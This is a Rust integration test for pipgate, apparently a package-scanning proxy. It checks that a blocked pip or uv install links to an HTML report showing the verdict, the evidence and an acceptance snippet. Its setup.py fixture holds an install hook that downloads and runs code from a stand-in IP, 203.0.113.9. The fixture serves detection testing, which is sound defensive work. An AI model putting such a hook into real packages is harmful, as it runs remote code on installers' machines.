//! The report people read, end to end: a blocked install's message (pip's status line,
//! uv's problem details) carries the report's absolute URL from `--public-url`; that URL
//! answers a browser with the HTML page (verdict, the evidence line, the acceptance to
//! paste, the same `pipgate policy accept` prints), while JSON and text stay as they were;
//! `pipgate scan --format html -o` writes the same page.

mod common;
use common::*;
use std::process::Command;

/// An install hook that downloads and runs code (never executed: the test sdist builds
/// with an in-tree backend that ignores setup.py).
const SETUP_PY: &str = r#"import urllib.request
from setuptools import setup
from setuptools.command.install import install


class Hook(install):
    def run(self):
        exec(urllib.request.urlopen("http://203.0.113.9/next.py").read())
        install.run(self)


setup(name="demo-report", version="1.0", cmdclass={"install": Hook})
"#;

const PUBLIC: &str = "http://reports.pipgate.test/";
const BROWSER: &str = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";

fn repo_policy() -> String {
    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
}

fn pipgate_cli(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_pipgate")).args(args).output().unwrap()
}

/// The text of the first `inner` inside the first `outer`, entities decoded (`tl` matches
/// one simple selector at a time).
fn text_of(html: &str, outer: &str, inner: &str) -> Option<String> {
    let dom = tl::parse(html, tl::ParserOptions::default()).ok()?;
    let parser = dom.parser();
    let outer = dom.query_selector(outer)?.next()?.get(parser)?.as_tag()?;
    let node = outer.query_selector(parser, inner)?.next()?.get(parser)?;
    Some(html_escape::decode_html_entities(&node.inner_text(parser)).into_owned())
}

/// Acceptance snippets name an expiry 30 days from the minute they were made.
fn without_expiry(snippet: &str) -> String {
    snippet.lines().filter(|l| !l.trim_start().starts_with("expires:")).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_blocked_install_leads_to_a_report_page_with_the_evidence_and_the_acceptance() {
    let idx = FakeIndex::start(Format::Json);
    let dist = sdist("demo-report", "1.0", &[("setup.py", SETUP_PY)]);
    let sha = sha256_hex(&dist.bytes);
    idx.add_dist("demo-report", dist);
    let gate = Pipgate::start_full(&idx.url(), Some(&repo_policy()), &["--public-url", PUBLIC], &[]);
    let link = format!("{PUBLIC}reports/{sha}");

    // pip prints the status line: it carries the link.
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-report==1.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("403 Client Error: Blocked by pipgate: execution.download-and-execute"), "{err}");
    assert!(err.contains(&format!("report: {link}")), "pip's message lacks the report link: {err}");
    // uv prints the problem details: they carry it too.
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-report==1.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&link), "uv's message lacks the report link: {err}");

    // The link's path on this pipgate, as a browser asks for it.
    let url = format!("{}/reports/{sha}", gate.base());
    let resp = http().get(&url).header("accept", BROWSER).send().unwrap();
    assert_eq!(resp.status(), 200);
    let header = |name: &str| resp.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
    assert_eq!(header("content-type"), "text/html; charset=utf-8");
    assert!(header("content-security-policy").contains("default-src 'none'"), "{}", header("content-security-policy"));
    assert_eq!(header("vary"), "Accept");
    let page = resp.text().unwrap();
    // The verdict, and the rule and finding behind it.
    assert_eq!(text_of(&page, "#verdict", ".decision").as_deref(), Some("Blocked"), "{page}");
    let why = text_of(&page, "#verdict", "ul.reasons").unwrap_or_default();
    assert!(why.contains("execution.download-and-execute"), "{why}");
    // The evidence: the line in setup.py that downloads and runs code.
    let evidence = text_of(&page, "#f-execution-download-and-execute", "table.evidence").unwrap_or_default();
    let line = SETUP_PY.lines().position(|l| l.contains("exec(urllib")).unwrap() + 1;
    assert!(evidence.contains(&format!("demo-report-1.0/setup.py:{line}")), "{evidence}");
    assert!(page.contains("203.0.113.9"), "{page}");
    // Facts from the listing and the metadata.
    assert!(page.contains(&sha) && page.contains("demo-report-1.0.tar.gz"), "{page}");
    assert!(page.contains("Test Team &lt;team@example.org&gt;"), "{page}");
    assert!(page.contains("href=\"https://example.org/demo-report\""), "{page}");
    assert!(!page.contains("<script"), "{page}");

    // The acceptance to paste is what `pipgate policy accept` prints.
    let snippet = text_of(&page, "#next-steps", "pre.acceptance").expect("an acceptance block");
    let policy = gate.data_dir.parent().unwrap().join("policy.yaml");
    let upstream = idx.url();
    let cli = |args: &[&str]| {
        let mut all: Vec<&str> = args.to_vec();
        let policy = policy.to_str().unwrap();
        let data = gate.data_dir.to_str().unwrap();
        all.extend(["--policy", policy, "--data-dir", data, "--upstream", &upstream]);
        pipgate_cli(&all)
    };
    let out = cli(&["policy", "accept", &sha]);
    assert!(out.status.success(), "{}", show(&out));
    let printed = String::from_utf8(out.stdout).unwrap();
    assert!(printed.contains("execution.download-and-execute") && printed.contains(&sha), "{printed}");
    assert_eq!(without_expiry(&snippet), without_expiry(&printed));

    // JSON and text stay as they were.
    let json: serde_json::Value = http().get(&url).header("accept", "application/json").send().unwrap().json().unwrap();
    assert_eq!(json["filename"], "demo-report-1.0.tar.gz");
    assert!(json["findings"].as_array().unwrap().iter().any(|f| f["detector"] == "execution.download-and-execute"));
    let resp = http().get(&url).send().unwrap();
    assert!(resp.headers()["content-type"].to_str().unwrap().starts_with("text/plain"));
    assert!(resp.text().unwrap().starts_with("pipgate scan: demo-report-1.0.tar.gz"));

    // `pipgate scan --format html -o` writes the same page.
    let file = gate.data_dir.parent().unwrap().join("report.html");
    let out = cli(&["scan", &sha, "--format", "html", "-o", file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "a blocked artifact exits 1: {}", show(&out));
    let written = std::fs::read_to_string(&file).unwrap();
    assert_eq!(text_of(&written, "#verdict", ".decision").as_deref(), Some("Blocked"));
    assert_eq!(
        text_of(&written, "#f-execution-download-and-execute", "table.evidence"),
        text_of(&page, "#f-execution-download-and-execute", "table.evidence")
    );
    assert_eq!(
        text_of(&written, "#next-steps", "pre.acceptance").map(|s| without_expiry(&s)),
        Some(without_expiry(&snippet))
    );
}
